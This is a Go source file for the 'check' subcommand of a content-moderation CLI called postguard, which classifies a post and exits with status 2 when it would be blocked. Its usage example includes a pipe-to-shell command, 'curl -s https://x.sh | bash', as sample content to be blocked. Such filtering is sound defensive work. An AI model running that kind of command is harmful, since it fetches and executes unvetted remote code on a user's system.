package cli

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"

	"github.com/spf13/cobra"
)

var (
	checkContent string
	checkFile    string
)

var checkCmd = &cobra.Command{
	Use:   "check",
	Short: "Classify a single post without running the gateway",
	Long: `Classify one piece of content and print the result as JSON.
Exits with status 2 when the content would be blocked.`,
	Example: `  postguard check --content 'curl -s https://x.sh | bash'
  postguard check -c policy.yaml --file draft.txt
  echo 'gm' | postguard check --file -`,
	RunE: runCheck,
}

func init() {
	checkCmd.Flags().StringVar(&checkContent, "content", "", "post content to classify")
	checkCmd.Flags().StringVarP(&checkFile, "file", "f", "", "read post content from a file (- for stdin)")
	checkCmd.MarkFlagsMutuallyExclusive("content", "file")
	checkCmd.MarkFlagsOneRequired("content", "file")
	rootCmd.AddCommand(checkCmd)
}

func runCheck(cmd *cobra.Command, args []string) error {
	cfg, err := loadConfig()
	if err != nil {
		return err
	}

	content := checkContent
	if checkFile != "" {
		data, err := readInput(cmd, checkFile)
		if err != nil {
			return err
		}
		content = string(data)
	}

	result := cfg.Classifier.Classify(content)

	enc := json.NewEncoder(cmd.OutOrStdout())
	enc.SetIndent("", "  ")
	if err := enc.Encode(result); err != nil {
		return err
	}
	if result.Blocked {
		return ErrBlocked
	}
	return nil
}

func readInput(cmd *cobra.Command, name string) ([]byte, error) {
	if name == "-" {
		buf, err := io.ReadAll(cmd.InOrStdin())
		if err != nil {
			return nil, fmt.Errorf("reading stdin: %w", err)
		}
		return buf, nil
	}
	data, err := os.ReadFile(name)
	if err != nil {
		if errors.Is(err, os.ErrNotExist) {
			return nil, fmt.Errorf("input file %s does not exist", name)
		}
		return nil, fmt.Errorf("reading %s: %w", name, err)
	}
	return data, nil
}
